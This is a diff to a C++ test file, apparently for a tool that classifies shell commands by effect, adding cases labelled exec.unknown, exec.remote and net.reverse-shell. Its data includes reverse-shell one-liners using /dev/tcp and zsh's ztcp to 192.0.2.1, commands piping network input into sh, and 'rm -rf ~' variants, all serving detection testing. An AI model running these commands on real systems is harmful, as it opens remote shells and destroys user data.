@@ -39,6 +39,8 @@ TEST_CASE("a shell runs its -c string, its input or its file") {
       {"zsh -fc 'rm f'", "fs.delete{f}"},
       {"echo 'rm f' | sh", "fs.delete{f}"},
       {"sh <<< 'rm f'", "fs.delete{f}"},
+      {"bash <<< \"$x\"", "exec.unknown"},
+      {"bash <<< \"$(mystery)\"", "exec.unknown"},
       {"sh <<'E'\nrm f\nE", "fs.delete{f}"},
       {"bash -s < <(echo 'rm f')", "fs.delete{f}"},
       {"bash <(echo 'rm f')", "fs.delete{f}"},
@@ -46,6 +48,9 @@ TEST_CASE("a shell runs its -c string, its input or its file") {
       {"sh -x x.sh -c", "exec.file{x.sh}"},
       {"bash --version", ""},
       {"bash -i >& /dev/tcp/192.0.2.1/4 0>&1", "net.reverse-shell"},
+      {"exec 3<>/dev/tcp/192.0.2.1/4; cat <&3 | sh", "exec.remote"},
+      {"exec 3<>/dev/tcp/192.0.2.1/4; sh <&3", "exec.remote"},
+      {"exec 3<>/dev/tcp/192.0.2.1/4; echo >&3; cat <&3", ""},
       {"$(echo rm) f", "fs.delete{f}"},
   });
 }
@@ -151,6 +156,8 @@ TEST_CASE("data that the shell evaluates once more") {
           {"echo *(e:'rm -rf ~':)", "fs.delete{~ rf}"},
           {"echo *(.om[1])", ""},
           {"zpty a rm -rf ~", "fs.delete{~ rf}"},
+          {"ztcp 192.0.2.1 4; zsh >&$REPLY 0>&$REPLY", "net.reverse-shell"},
+          {"ztcp 192.0.2.1 25; read x <&$REPLY", ""},
           {"sched +1:00 rm -rf ~", "fs.delete{~ rf}"},
           {"x='$(rm -rf ~)'; echo ${(e)x}", "fs.delete{~ rf}"},
           {"READNULLCMD=sh; < notes", "exec.file{$notes}"},
